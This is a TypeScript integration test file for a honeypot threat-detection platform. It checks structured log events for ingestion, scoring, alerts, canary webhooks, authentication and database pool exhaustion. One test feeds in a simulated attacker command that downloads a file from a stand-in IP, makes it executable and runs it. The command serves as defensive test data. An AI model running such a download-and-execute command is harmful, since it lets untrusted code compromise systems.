import { createHmac } from 'node:crypto'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { openFeed } from '../../testing/test-feed.js'
import { ADMIN, startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
import { until } from '../../testing/until.js'

const CANARY_SECRET = 'a canary webhook secret'
const TRACE = '4bf92f3577b34da6a3ce929d0e0e4736'
const IDS = { 'x-request-id': 'golden-1', traceparent: `00-${TRACE}-00f067aa0ba902b7-01` }
const common = {
  timestamp: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/),
  trace_id: TRACE,
}
const uuid = expect.stringMatching(/^[0-9a-f-]{36}$/)

/** The exact JSON of the key log events of the source specification, each brought about for real. */
describe.each(inject('postgresServers').slice(0, 1))('key log events on $version', (server) => {
  let api: TestPlatform
  let token: string
  beforeAll(async () => {
    api = await startTestPlatform(server, {
      environment: {
        CANARY_WEBHOOK_SECRET: CANARY_SECRET,
        // Nobody listens there.
        LLM_BASE_URL: 'http://127.0.0.1:9/v1',
        LLM_MODEL: 'llama3',
      },
    })
    token = await api.login()
  })
  afterAll(() => api.close())

  const line = (message: string, more: object = {}) =>
    until(() =>
      api.logged.find(
        (each) =>
          each['message'] === message && Object.entries(more).every(([name, value]) => each[name] === value),
      ),
    )

  test('Event ingested, Score computed, Alert queued, WebSocket broadcast: one event all the way', async () => {
    const feed = await openFeed(api, token)
    await api.send(
      JSON.stringify({
        source_ip: '203.0.113.7',
        sensor_id: 'cowrie-1',
        session: 's',
        occurred_at: new Date().toISOString(),
        command: 'wget http://192.0.2.1/x; chmod 777 x; ./x',
      }),
      IDS,
    )
    const threat = { source_ip: '203.0.113.7', sensor_id: 'cowrie-1', session_id: uuid, threat_level: 'high' }
    expect(await line('Event ingested')).toEqual({
      ...common,
      ...threat,
      level: 'INFO',
      logger: 'backend.routers.ingest',
      request_id: 'golden-1',
      message: 'Event ingested',
      event_type: 'command',
      threat_score: expect.any(Number),
      duration_ms: expect.any(Number),
    })
    expect(await line('Score computed')).toEqual({
      ...common,
      ...threat,
      level: 'INFO',
      logger: 'backend.services.threat_scorer',
      request_id: 'golden-1',
      message: 'Score computed',
      threat_score: expect.any(Number),
      scored_by: expect.stringMatching(/^model-/),
    })
    expect(await line('Alert queued')).toEqual({
      ...common,
      ...threat,
      level: 'INFO',
      logger: 'backend.services.alert_manager',
      request_id: 'golden-1',
      message: 'Alert queued',
      alert_id: uuid,
      kind: 'session',
      threat_score: expect.any(Number),
      queue_depth: expect.any(Number),
    })
    expect(await line('WebSocket broadcast')).toEqual({
      ...common,
      ...threat,
      level: 'INFO',
      logger: 'backend.routers.alerts',
      request_id: 'golden-1',
      message: 'WebSocket broadcast',
      alert_id: uuid,
      clients: 1,
      duration_ms: expect.any(Number),
    })
    await feed.close()
  })

  test('Canary token triggered', async () => {
    const body = JSON.stringify({
      src_ip: '203.0.113.8',
      timestamp: new Date().toISOString(),
      memo: 'finance share',
    })
    const signature = createHmac('sha256', CANARY_SECRET).update(body).digest('hex')
    await api.call('/canary/webhook', {
      method: 'POST',
      body,
      headers: { ...IDS, 'x-canary-signature': `sha256=${signature}` },
    })
    expect(await line('Canary token triggered')).toEqual({
      ...common,
      level: 'WARNING',
      logger: 'backend.routers.canary',
      request_id: 'golden-1',
      message: 'Canary token triggered',
      source_ip: '203.0.113.8',
      sensor_id: 'canary-webhook',
      event_type: 'canary',
      session_id: uuid,
      threat_score: expect.any(Number),
      threat_level: 'critical',
      canary: 'finance share',
    })
  })

  test('Auth login success, Auth login failed, Token refresh', async () => {
    const post = (path: string, body: object) =>
      api.call(path, { method: 'POST', headers: IDS, body: JSON.stringify(body) })
    const auth = { ...common, logger: 'backend.routers.auth', request_id: 'golden-1', client_ip: '127.0.0.1' }
    const login = await post('/auth/login', ADMIN)
    expect(await line('Auth login success', { request_id: 'golden-1' })).toEqual({
      ...auth,
      level: 'INFO',
      message: 'Auth login success',
      username: 'admin',
      role: 'admin',
    })
    await post('/auth/login', { ...ADMIN, password: 'wrong' })
    expect(await line('Auth login failed')).toEqual({
      ...auth,
      level: 'WARNING',
      message: 'Auth login failed',
      username: 'admin',
      reason: 'wrong_credentials',
    })
    const { refresh_token } = (await login.json()) as { refresh_token: string }
    await post('/auth/refresh', { refresh_token })
    expect(await line('Token refresh')).toEqual({
      ...auth,
      level: 'INFO',
      message: 'Token refresh',
      username: 'admin',
    })
    expect(JSON.stringify(api.logged)).not.toMatch(/correct horse|refresh_token/)
  })

  test('LLM unavailable', async () => {
    await api.call('/ai/status', { as: token })
    expect(await line('LLM unavailable')).toMatchObject({
      level: 'WARNING',
      logger: 'backend.services.llm_service',
      model: 'llama3',
      provider: '127.0.0.1:9',
      operation: 'probe',
      reason: 'it cannot be reached',
    })
    expect(await line('LLM API error', { operation: 'probe' })).toMatchObject({
      level: 'ERROR',
      logger: 'backend.services.llm_service',
      model: 'llama3',
      cause: 'it cannot be reached',
    })
    const metrics = await (await api.call('/metrics')).text()
    expect(metrics).toMatch(/^ai_unavailable_count_total\{operation="analyze"\} 0/m)
    expect(metrics).toMatch(/^eviltwin_ai_probes_total\{by="models",outcome="failed"\} [1-9]/m)
  })

  test('DB connection pool exhausted', async () => {
    const blocker = new pg.Client({ connectionString: api.databaseUrl })
    await blocker.connect()
    await blocker.query('BEGIN; LOCK TABLE sessions IN ACCESS EXCLUSIVE MODE')
    const reads = Array.from({ length: 12 }, () => api.call('/sessions', { as: token }))
    expect(await line('DB connection pool exhausted', { pool: 'app' })).toEqual({
      timestamp: common.timestamp,
      level: 'WARNING',
      logger: 'backend.database',
      message: 'DB connection pool exhausted',
      pool: 'app',
      pool_size: 8,
      waiting: expect.any(Number),
    })
    await blocker.query('COMMIT')
    await blocker.end()
    for (const read of reads) expect((await read).status).toBe(200)
  })

  test('every request has a line at DEBUG, with its ids', async () => {
    await api.call('/health', { headers: IDS })
    expect(await line('Request completed', { route: '/health' })).toEqual({
      ...common,
      level: 'DEBUG',
      logger: 'backend.middleware.timing',
      request_id: 'golden-1',
      message: 'Request completed',
      method: 'GET',
      route: '/health',
      status: 200,
      client_ip: '127.0.0.1',
      duration_ms: expect.any(Number),
    })
  })

  test('an administrator changes the level while it runs', async () => {
    const set = (level: string) =>
      api.call('/ops/log-level', { method: 'PUT', as: token, body: JSON.stringify({ level }) })
    expect(await (await set('ERROR')).json()).toEqual({ level: 'ERROR' })
    const before = api.logged.length
    await api.call('/health')
    await api.send(JSON.stringify({ source_ip: '203.0.113.9', occurred_at: new Date().toISOString() }))
    expect(api.logged.slice(before)).toEqual([])
    await set('DEBUG')
    await api.call('/health')
    await until(() => api.logged.length > before)
    expect((await set('LOUD')).status).toBe(422)
  })
})
